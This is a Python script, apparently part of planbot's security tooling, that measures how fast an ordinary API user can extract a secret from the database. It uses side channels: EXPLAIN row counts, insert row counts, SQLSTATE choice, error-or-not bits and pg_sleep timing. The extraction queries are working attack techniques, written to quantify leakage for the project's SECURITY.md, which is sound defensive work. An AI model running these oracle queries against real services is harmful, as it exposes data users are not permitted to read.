#!/usr/bin/env python3
"""How many bytes of table data each residual channel carries per command (SECURITY.md, "what
no EXPLAIN service can close"), measured against a running planbot.

The source database holds `vault(s bytea)`: a random secret of SECRET_BYTES bytes. Through
planbot's HTTP API alone, as an ordinary user, each channel recovers a stretch of it; the
recovered bytes are compared with the real ones (read here with psql, which a real attacker
does not have) so that only bytes read correctly count.

Channels:
  rows        one `explain` with K scalar subqueries, each a Function Scan whose actual row count
              is one byte of the secret (generate_series(1, get_byte(s, i))), after one
              `exec set jit = off` (JIT would compile every subplan: 30 ms each)
  exec_rows   one `exec insert ... select generate_series(1, <two bytes>)`: the row count of the
              command tag carries two bytes (plus one `exec create table` for the sink)
  sqlstate    one `explain` that fails with one of four SQLSTATEs (or none) chosen by two bits
  error       one `explain` that fails or not by one bit
  timing      one `explain` of pg_sleep(byte / 1000): the execution time carries one byte

Usage: oracle_capacity.py URL SECRET_HEX
Prints one line per channel: bytes per command, commands per second, bytes per second, and
bytes per minute under the default quota (30 commands per 60 s).
"""
import json
import sys
import time
import urllib.error
import urllib.request

QUOTA_PER_MINUTE = 30


def ask(url, text):
    body = json.dumps({"text": text, "session": "oracle"}).encode()
    req = urllib.request.Request(url + "/api/v1/commands", data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=120) as r:
            return r.status, json.load(r)
    except urllib.error.HTTPError as e:
        return e.code, json.load(e)


def plan_nodes(node):
    yield node
    for child in node.get("Plans", []):
        yield from plan_nodes(child)


def rows_channel(url, secret, k):
    assert ask(url, "exec set jit = off")[0] == 200
    # In WHERE, not the select list (at most 1,664 columns); AND runs every subplan.
    items = " and ".join(
        f"(select count(*) from generate_series(1, get_byte(s, {i}))) >= 0" for i in range(k))
    status, answer = ask(url, f"explain select 1 from vault where {items}")
    assert status == 200, answer
    got = {}
    for node in plan_nodes(answer["plan"]["json"][0]["Plan"]):
        name = node.get("Subplan Name", "")
        if name.startswith("SubPlan ") or name.startswith("InitPlan "):
            index = int(name.split()[1]) - 1
            scan = next(n for n in plan_nodes(node) if n["Node Type"] == "Function Scan")
            got[index] = scan["Actual Rows"]
    return bytes(got.get(i, 0) & 0xFF for i in range(k)), 2


def exec_rows_channel(url, secret, n):
    ask(url, "exec create table if not exists sink (x int)")
    out = bytearray()
    commands = 1
    for i in range(0, n, 2):
        status, answer = ask(
            url, f"exec insert into sink select generate_series(1, get_byte(s, {i}) * 256 + "
                 f"get_byte(s, {i + 1})) from vault")
        assert status == 200, answer
        rows = answer["result"]["rows"]
        out += bytes([rows >> 8, rows & 0xFF])
        commands += 1
    return bytes(out[:n]), commands


def sqlstate_channel(url, secret, n):
    states = {"22012": 0, "22P02": 1, "22003": 2}
    out = bytearray()
    commands = 0
    for i in range(n):
        byte = 0
        for shift in (0, 2, 4, 6):
            status, answer = ask(
                url,
                # Each arm depends on the row, or the planner would fold (and raise) it.
                f"explain select case (get_byte(s, {i}) >> {shift}) & 3 "
                f"when 0 then 1 / (length(s) - length(s)) "
                f"when 1 then (length(s)::text || 'x')::int "
                f"when 2 then 2147483647 + length(s) else 0 end from vault")
            commands += 1
            code = answer.get("error", {}).get("sqlstate") if status != 200 else None
            byte |= states.get(code, 3) << shift
        out.append(byte)
    return bytes(out), commands


def error_channel(url, secret, n):
    out = bytearray()
    commands = 0
    for i in range(n):
        byte = 0
        for bit in range(8):
            status, _ = ask(url, f"explain select 1 / ((get_byte(s, {i}) >> {bit}) & 1) "
                                 f"from vault")
            commands += 1
            byte |= (1 if status == 200 else 0) << bit
        out.append(byte)
    return bytes(out), commands


def timing_channel(url, secret, n):
    out = bytearray()
    for i in range(n):
        status, answer = ask(url, f"explain select pg_sleep(get_byte(s, {i}) / 1000.0) "
                                  f"from vault")
        assert status == 200, answer
        ms = answer["summary"]["execution_time"]["ms"]
        out.append(max(0, min(255, round(ms - 0.1))))
    return bytes(out), n


def main():
    url, secret = sys.argv[1], bytes.fromhex(sys.argv[2])
    print(f"{'channel':<10} {'bytes/cmd':>10} {'correct':>8} {'cmd/s':>7} {'bytes/s':>9} "
          f"{'bytes/min at quota':>19}")
    for name, fn, n in (("rows", rows_channel, 3500), ("exec_rows", exec_rows_channel, 32),
                        ("sqlstate", sqlstate_channel, 8), ("error", error_channel, 4),
                        ("timing", timing_channel, 32)):
        start = time.monotonic()
        got, commands = fn(url, secret, n)
        seconds = time.monotonic() - start
        correct = sum(1 for a, b in zip(got, secret) if a == b)
        per_command = correct / commands
        print(f"{name:<10} {per_command:>10.2f} {correct:>4}/{n:<3} {commands / seconds:>7.1f} "
              f"{correct / seconds:>9.1f} {per_command * QUOTA_PER_MINUTE:>19.0f}")


if __name__ == "__main__":
    main()
